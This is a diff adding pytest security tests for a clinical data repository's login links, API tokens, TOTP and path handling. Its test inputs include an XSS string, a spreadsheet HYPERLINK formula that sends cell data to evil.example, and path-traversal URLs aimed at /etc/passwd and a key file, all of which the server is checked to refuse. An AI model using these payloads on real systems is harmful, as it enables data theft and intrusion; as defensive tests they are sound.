@@ -9,7 +9,13 @@ trial's trialist: ``test_policy.py``, on the same kind of server.)
 from __future__ import annotations
 
 import io
+import json
+import os
+import subprocess
+import sys
+import tempfile
 from datetime import timedelta
+from pathlib import Path
 from typing import Any
 
 import httpx
@@ -19,7 +25,15 @@ from sqlalchemy import func, select, update
 
 from repository.models import ApiToken, QueryAttachment, Upload, WebSession, utcnow
 from repository.service.secret_tokens import digest
-from tests.service.world import PASSWORD, Server, World, bearer, delivery_csv, sign_in
+from tests.service.world import (
+    PASSWORD,
+    ROOT,
+    Server,
+    World,
+    bearer,
+    delivery_csv,
+    sign_in,
+)
 
 HOSTILE = ['<script>alert("x")</script>', '=HYPERLINK("http://evil.example/?d="&A1,"click")']
 
@@ -290,3 +304,193 @@ def test_chosen_file_names_are_checked_not_rewritten() -> None:
         with pytest.raises(ConfigError):
             check_file_name(bad)
     assert check_file_name("GAST 01 (re-delivery).xlsx") == "GAST 01 (re-delivery).xlsx"
+
+
+def _cli(world: World, server: Server, *args: str, env: dict[str, str] | None = None
+         ) -> subprocess.CompletedProcess[str]:
+    """``ipdrepo ARGS`` as the curator on the server's workspace (or with ``env``: a bare
+    client)."""
+    if env is None:
+        env = {k: v for k, v in os.environ.items() if not k.startswith("IPDREPO_")}
+        env.update({"IPDREPO_USER": "cur", "IPDREPO_DATABASE_URL": world.database_url,
+                    "IPDREPO_PUBLIC_URL": server.url, "IPDREPO_WORKSPACE": str(world.workspace)})
+    done = subprocess.run([sys.executable, "-m", "repository", *args], env=env, cwd=ROOT,
+                          capture_output=True, text=True, timeout=300)
+    assert done.returncode == 0, done.stdout + done.stderr
+    return done
+
+
+def _open_link(client: httpx.Client, url: str) -> tuple[str, str]:
+    """Open a one-time link as a browser does: (page path, the token after '#')."""
+    path, token = url.removeprefix(str(client.base_url).rstrip("/")).split("#", 1)
+    page = client.get(path)  # the fragment stays in the browser
+    assert page.status_code == 200, page.text
+    assert 'name="token"' in page.text and token not in page.text
+    return path, token
+
+
+NEW_PASSWORD = "another horse battery staple"
+CHROMIUM = os.environ.get("IPDREPO_CHROMIUM", "/usr/bin/chromium")
+
+
+def _browser_dom(url: str) -> str:
+    """The page at ``url`` as real headless Chromium leaves it after its scripts ran (under
+    the page's own Content-Security-Policy)."""
+    if not Path(CHROMIUM).exists():
+        pytest.fail(f"no Chromium at {CHROMIUM}: install Debian's chromium or set "
+                    "IPDREPO_CHROMIUM")
+    with tempfile.TemporaryDirectory(prefix="ipdrepo-chromium-") as profile:
+        done = subprocess.run([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu",
+                               f"--user-data-dir={profile}", "--virtual-time-budget=5000",
+                               "--dump-dom", url], capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0 and "<form" in done.stdout, done.stderr[-2000:]
+    return done.stdout
+
+
+def test_invitation_link_sets_the_password_once(server: Server, world: World) -> None:
+    made = _cli(world, server, "user", "invite", "new.tri", "--role", "trialist",
+                "--trial", "ALPHA-1", "--email", "new.tri@alpha-1.example.org", "--json")
+    url = json.loads(made.stdout)["url"]
+    assert url.startswith(f"{server.url}/welcome#")
+    assert f'value="{url.split("#", 1)[1]}"' in _browser_dom(url)  # the script filled it in
+    with server.client() as client:
+        path, token = _open_link(client, url)
+        fields = {"token": token, "password": PASSWORD, "again": PASSWORD}
+        differ = client.post(path, data={**fields, "again": NEW_PASSWORD})
+        assert differ.status_code == 422 and "not the same" in differ.text
+        weak = client.post(path, data={**fields, "password": "short", "again": "short"})
+        assert weak.status_code == 422 and "weak" in weak.text
+        wrong = client.post(path, data={**fields, "token": token[:-3] + "xyz"})
+        assert wrong.status_code == 422 and "not valid" in wrong.text
+        assert sign_in(client, "new.tri").status_code == 401  # nothing set yet
+        done = client.post(path, data=fields, follow_redirects=False)
+        assert done.status_code == 303 and done.headers["location"].startswith("/sign-in")
+        again = client.post(path, data=fields)
+        assert again.status_code == 422 and "not valid" in again.text
+        me = sign_in(client, "new.tri")
+        assert me.status_code == 200 and me.json()["trial"] == "ALPHA-1"
+
+
+def test_password_reset_link_ends_sessions_and_replaces_the_password(server: Server,
+                                                                     world: World) -> None:
+    made = _cli(world, server, "user", "invite", "forgetful", "--role", "analyst", "--json")
+    with server.client() as client:
+        _, token = _open_link(client, json.loads(made.stdout)["url"])
+        assert client.post("/api/v1/auth/links/redeem",
+                           json={"token": token, "password": PASSWORD}).status_code == 200
+        assert sign_in(client, "forgetful").status_code == 200
+        assert client.get("/api/v1/auth/me").status_code == 200
+        reset = _cli(world, server, "user", "reset-link", "forgetful", "--json")
+        url = json.loads(reset.stdout)["url"]
+        assert url.startswith(f"{server.url}/reset#")
+        assert client.get("/api/v1/auth/me").status_code == 401  # the session has ended
+        with server.client() as browser:
+            path, token = _open_link(browser, url)
+            done = browser.post(path, data={"token": token, "password": NEW_PASSWORD,
+                                            "again": NEW_PASSWORD}, follow_redirects=False)
+            assert done.status_code == 303, done.text
+        assert sign_in(client, "forgetful").status_code == 401  # the old password is gone
+        assert sign_in(client, "forgetful", NEW_PASSWORD).status_code == 200
+
+
+def test_tokens_are_shown_once_listed_without_secret_and_revoked(server: Server,
+                                                                 world: World,
+                                                                 tmp_path: Any) -> None:
+    made = json.loads(_cli(world, server, "token", "create", "cli-made", "--expires", "2",
+                           "--json").stdout)
+    token = made["token"]
+    with server.client() as client:
+        me = client.get("/api/v1/auth/me", headers=bearer(token))
+        assert me.status_code == 200 and me.json()["user"] == "cur"
+    store = world.store()
+    try:
+        with store.reading() as session:
+            row = session.scalars(select(ApiToken).where(ApiToken.name == "cli-made")).one()
+            assert row.token_hash == digest(token)
+            assert token not in json.dumps({c.name: str(getattr(row, c.name))
+                                            for c in ApiToken.__table__.columns})
+    finally:
+        store.close()
+    listed = _cli(world, server, "token", "list", "--json").stdout
+    assert "cli-made" in listed and token not in listed
+    _cli(world, server, "token", "revoke", "cli-made")
+    with server.client() as client:
+        assert client.get("/api/v1/auth/me", headers=bearer(token)).status_code == 401
+    # a trialist manages their own tokens through the server, with nothing but a token
+    home = tmp_path / "home"
+    creds = home / ".config" / "ipdrepo" / "credentials.json"
+    creds.parent.mkdir(parents=True)
+    creds.write_text(json.dumps({server.url: world.tokens["tri.a"]}))
+    os.chmod(creds, 0o600)
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("IPDREPO_", "AWS_", "PG"))}
+    env.update({"HOME": str(home), "PYTHONPATH": str(ROOT), "IPDREPO_SERVER": server.url})
+    second = json.loads(_cli(world, server, "token", "create", "laptop", "--json",
+                             env=env).stdout)["token"]
+    listed = _cli(world, server, "token", "list", "--json", env=env).stdout
+    assert "laptop" in listed and second not in listed and "cli-made" not in listed
+    _cli(world, server, "token", "revoke", "laptop", env=env)
+    with server.client() as client:
+        assert client.get("/api/v1/auth/me", headers=bearer(second)).status_code == 401
+        assert client.get("/api/v1/auth/me",
+                          headers=bearer(world.tokens["tri.a"])).status_code == 200
+
+
+def test_names_in_paths_never_reach_files(server: Server, world: World) -> None:
+    """Names a caller puts in a URL (extract file, release version, request code, attachment)
+    are looked up, never joined to a path: traversal finds nothing."""
+    extract = world.extras["extract:REQ-OK"]
+    attempts = [f"/api/v1/requests/REQ-OK/extracts/{extract}/files/..%2F..%2Fkeys%2Fpseudonym.key",
+                f"/api/v1/requests/REQ-OK/extracts/{extract}/files/..",
+                f"/api/v1/requests/REQ-OK/extracts/{extract}/files/%2Fetc%2Fpasswd",
+                "/api/v1/releases/..%2F..%2Fkeys", "/api/v1/releases/../data",
+                "/api/v1/requests/..%2FREQ-OK", "/api/v1/requests/REQ-OK%2F..%2FREQ-OLD/dua",
+                f"/api/v1/queries/{world.queries['ALPHA-1']}/attachments/..%2F1"]
+    with server.client() as client:
+        for who in ("cur", "ana.ok"):
+            for path in attempts:
+                got = client.get(path, headers=bearer(world.tokens[who]))
+                assert got.status_code in (403, 404, 405, 422), (who, path, got.status_code)
+                assert b"%PDF" not in got.content and b"PAR1" not in got.content
+        got = client.post("/api/v1/users", headers=bearer(world.tokens["cur"]),
+                          json={"name": "../../evil", "role": "analyst"})
+        assert got.status_code == 400, got.text
+
+
+def test_second_factor_over_http(server: Server, world: World) -> None:
+    """A user sets up TOTP through the API; from then on sign-in needs a fresh code: none, a
+    wrong one or the one just used (a replay) is refused, for sessions and token sign-in."""
+    import time
+
+    from repository.service import accounts
+    from repository.service.totp import _key, totp
+
+    store = world.store()
+    try:
+        with store.transaction() as session:
+            link = accounts.invite(session, by="cur", name="two.factor", role="analyst")
+        with store.transaction() as session:
+            accounts.redeem_link(session, link.token, password=PASSWORD)
+    finally:
+        store.close()
+    client, csrf = _session(server, "two.factor")
+    try:
+        secret = client.post("/api/v1/auth/totp", headers={"X-CSRF-Token": csrf}).json()["secret"]
+        key = _key(secret)
+        bad = client.post("/api/v1/auth/totp/confirm", headers={"X-CSRF-Token": csrf},
+                          json={"code": "000000" if totp(key, time.time()) != "000000"
+                                else "111111"})
+        assert bad.status_code == 400, bad.text
+        confirmed = client.post("/api/v1/auth/totp/confirm", headers={"X-CSRF-Token": csrf},
+                                json={"code": totp(key, time.time() - 30)})
+        assert confirmed.status_code == 200, confirmed.text
+    finally:
+        client.close()
+    with server.client() as other:
+        assert sign_in(other, "two.factor").status_code == 401  # no code
+        assert sign_in(other, "two.factor", code="12345x").status_code == 401
+        code = totp(key, time.time())
+        assert sign_in(other, "two.factor", code=code).status_code == 200
+        assert sign_in(other, "two.factor", code=code).status_code == 401  # replayed
+        token_way = other.post("/api/v1/auth/token", json={
+            "user": "two.factor", "password": PASSWORD, "name": "cli"})
+        assert token_way.status_code == 401
